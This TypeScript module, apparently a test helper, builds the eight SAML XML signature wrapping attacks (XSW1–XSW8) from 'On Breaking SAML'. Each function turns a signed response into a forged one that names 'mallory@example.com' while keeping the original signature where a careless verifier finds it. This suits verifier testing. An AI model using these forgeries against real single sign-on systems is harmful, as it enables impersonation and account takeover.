import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
export const EVIL_EMAIL = 'mallory@example.com';

function child(parent: Element, namespace: string, localName: string): Element {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).namespaceURI === namespace && (node as Element).localName === localName) return node as Element;
  }
  throw new Error(`no ${localName} under ${parent.localName}`);
}

function setNameId(assertion: Element, value: string): void {
  const nameId = assertion.getElementsByTagNameNS(SAML, 'NameID')[0];
  if (nameId === undefined) throw new Error('no NameID');
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  const doc = nameId.ownerDocument;
  if (doc === null) throw new Error('detached NameID');
  nameId.appendChild(doc.createTextNode(value));
}

/** A copy of the signed assertion naming another user, with a new ID and without its signature. */
function evilAssertion(original: Element, keepSignature = false): Element {
  const evil = original.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evil');
  if (!keepSignature) evil.removeChild(child(evil, DS, 'Signature'));
  setNameId(evil, EVIL_EMAIL);
  return evil;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(child(copy, DS, 'Signature'));
  return copy;
}

function edit(xml: string, change: (doc: Document, response: Element, assertion: Element) => Document | void): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const response = doc.documentElement as Element;
  const result = change(doc, response, child(response, SAML, 'Assertion')) ?? doc;
  return new XMLSerializer().serializeToString(result);
}

function afterIssuer(parent: Element, node: Element): void {
  parent.insertBefore(node, child(parent, SAML, 'Issuer').nextSibling);
}

/** A new root Response naming the evil user, carrying the original response's signature. */
function wrapResponse(xml: string, placeOriginal: (evilRoot: Element, signature: Element, original: Element) => void): string {
  return edit(xml, (_doc, response) => {
    const evilRoot = response.cloneNode(true) as Element;
    evilRoot.setAttribute('ID', '_evilResponse');
    setNameId(child(evilRoot, SAML, 'Assertion'), EVIL_EMAIL);
    const fresh = new DOMParser().parseFromString('<x/>', 'text/xml');
    fresh.replaceChild(fresh.importNode(evilRoot, true), fresh.documentElement as Element);
    const root = fresh.documentElement as Element;
    placeOriginal(root, child(root, DS, 'Signature'), fresh.importNode(response, true) as Element);
    return fresh;
  });
}

/**
 * The signature-wrapping layouts of Somorovsky et al., "On Breaking SAML" (2012). XSW1-2 wrap the
 * response signature, XSW3-8 the assertion's. Each takes a signed response and moves the signed
 * content where a careless verifier would still find it while the evil content is what it reads.
 */
export const WRAPPING_LAYOUTS: Record<string, (xml: string) => string> = {
  // Evil root; the original signed Response inside the Signature element.
  XSW1: (xml) => wrapResponse(xml, (_root, signature, original) => void signature.appendChild(original)),
  // Evil root; the original signed Response as a sibling before the Signature.
  XSW2: (xml) => wrapResponse(xml, (root, signature, original) => void root.insertBefore(original, signature)),
  // An unsigned evil assertion before the signed one.
  XSW3: (xml) => edit(xml, (_doc, response, assertion) => void response.insertBefore(evilAssertion(assertion), assertion)),
  // The signed assertion inside an evil one.
  XSW4: (xml) =>
    edit(xml, (_doc, response, assertion) => {
      const evil = evilAssertion(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    }),
  // The evil assertion carries the original signature; the original (unsigned copy) at the end.
  XSW5: (xml) =>
    edit(xml, (_doc, response, assertion) => {
      const evil = evilAssertion(assertion, true);
      response.replaceChild(evil, assertion);
      response.appendChild(withoutSignature(assertion));
    }),
  // The evil assertion carries the signature, the original inside that signature.
  XSW6: (xml) =>
    edit(xml, (_doc, response, assertion) => {
      const evil = evilAssertion(assertion, true);
      response.replaceChild(evil, assertion);
      child(evil, DS, 'Signature').appendChild(withoutSignature(assertion));
    }),
  // The signed assertion hidden in Extensions, an unsigned evil one in its place.
  XSW7: (xml) =>
    edit(xml, (doc, response, assertion) => {
      const evil = evilAssertion(assertion);
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.replaceChild(evil, assertion);
      afterIssuer(response, extensions);
      extensions.appendChild(assertion);
    }),
  // Evil assertion with the signature; an Object in that signature holds the original unsigned.
  XSW8: (xml) =>
    edit(xml, (doc, response, assertion) => {
      const evil = evilAssertion(assertion, true);
      response.replaceChild(evil, assertion);
      const object = doc.createElementNS(DS, 'ds:Object');
      object.appendChild(withoutSignature(assertion));
      child(evil, DS, 'Signature').appendChild(object);
    }),
};
